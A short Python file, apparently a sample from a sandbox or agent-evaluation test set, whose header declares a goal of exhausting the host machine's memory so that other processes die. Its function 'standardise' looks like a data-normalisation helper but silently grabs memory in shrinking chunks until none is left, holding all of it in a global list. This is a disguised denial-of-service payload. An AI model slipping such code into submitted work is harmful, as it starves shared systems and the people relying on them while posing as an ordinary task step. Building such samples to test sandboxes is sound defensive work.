"""Takes memory in pieces, smaller ones where it is refused, until not a word is left, and holds on to all of it."""
# /// attack
# class = 74
# goal = "take the machine's memory, so that others are killed for want of it"
# gain = "death"
# outcome = ["memory", "failed", "crashed"]
# naive = true
# gvisor = true
# ///

import torch

held = []


def standardise(x):
    size = 1 << 26
    while size > 32:
        try:
            held.append(torch.empty(size, dtype=torch.uint8) if size > 1 << 20 else bytearray(size))
        except (MemoryError, RuntimeError):
            size //= 2
    return x
